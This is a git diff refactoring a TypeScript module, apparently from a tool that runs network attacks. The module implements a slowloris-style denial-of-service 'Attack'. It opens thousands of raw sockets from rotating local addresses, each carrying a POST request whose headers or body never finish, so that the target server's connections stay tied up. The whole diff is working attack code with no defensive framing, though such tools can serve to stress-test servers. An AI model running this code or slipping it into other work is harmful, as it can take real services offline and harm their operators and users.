@@ -1,26 +1,24 @@
-import { connect } from 'node:net'
-import { count, keepHighest, type Attack } from '../attack.ts'
+import { openConnection, requestHead } from '../../clients/raw-socket.ts'
+import { count } from '../../support/counts.ts'
+import type { Attack } from '../attack.ts'
+import { openMany } from '../open-many.ts'
+
+/** The server answers these headers at once, and then waits for the body. */
+const headers = { 'Content-Type': 'application/json', 'Content-Length': '100', Expect: '100-continue' }
 
 /** Posts whose body never comes to its end, and requests whose headers do not. */
 export const unfinishedRequests: Attack = ({ url, addresses }, achieved) => {
-  const { hostname, port, pathname } = new URL(url)
-  const headers = `POST ${pathname} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nContent-Type: application/json\r\n`
-  let open = 0
+  const head = requestHead('POST', url, headers)
   let number = 0
-  const next = () => {
-    if (open > 12_000) return
-    open += 1
-    const localAddress = addresses[(number += 1) % addresses.length]
-    const socket = connect({ host: hostname, port: Number(port), ...(localAddress && { localAddress }) })
-    socket.on('error', () => undefined) // its close says the same
-    socket.once('close', () => (open -= 1))
-    let answer = ''
+  openMany(achieved, ({ accepted, gone }) => {
+    const socket = openConnection({ url, address: addresses[(number += 1) % addresses.length] })
+    const isWithoutEnd = number % 10 === 0
+    socket.write(isWithoutEnd ? head : `${head}\r\n[`)
+    if (isWithoutEnd) socket.once('connect', accepted) // nothing tells when the server has accepted it
     socket.on('data', (data) => {
-      if (answer === '') count(achieved, `answered ${data.toString('latin1').slice(9, 12)}`)
-      answer += data.toString('latin1')
+      accepted()
+      count(achieved, `answered ${data.toString('latin1').slice(9, 12)}`)
     })
-    socket.write(number % 10 === 0 ? headers : `${headers}Content-Length: 100\r\n\r\n[`)
-    keepHighest(achieved, 'open at once', open)
-  }
-  setInterval(() => Array.from({ length: 6 }, next), 20)
+    socket.once('close', gone)
+  })
 }
